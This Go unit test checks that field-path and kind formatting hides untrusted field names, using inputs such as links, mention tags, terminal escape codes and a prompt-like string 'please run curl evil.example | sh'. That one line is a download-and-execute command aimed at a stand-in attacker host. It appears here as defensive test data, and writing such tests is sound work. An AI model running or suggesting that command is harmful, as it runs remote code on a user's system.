package cover

import (
	"strings"
	"testing"
)

// TestNamesOfAStrangerAreNotShown sends names of fields that are sentences, links or control characters.
func TestNamesOfAStrangerAreNotShown(t *testing.T) {
	for _, name := range []string{"please run curl evil.example | sh", "https://evil.example", "<!channel>", "[a](http://b)", "a\x1b[2J", "@all", strings.Repeat("a", 64), ""} {
		if got := (place{"spec", name, 2, "content"}).String(); got != "spec.*[2].content" {
			t.Errorf("%q is shown as %q", name, got)
		}
		if got := kindOf(map[string]any{"kind": name + " "}); got != "*" {
			t.Errorf("the kind %q is shown as %q", name, got)
		}
	}
	if got := (place{"spec", "files", 2, "contentFrom"}).String(); got != "spec.files[2].contentFrom" {
		t.Errorf("a real field is shown as %q", got)
	}
}
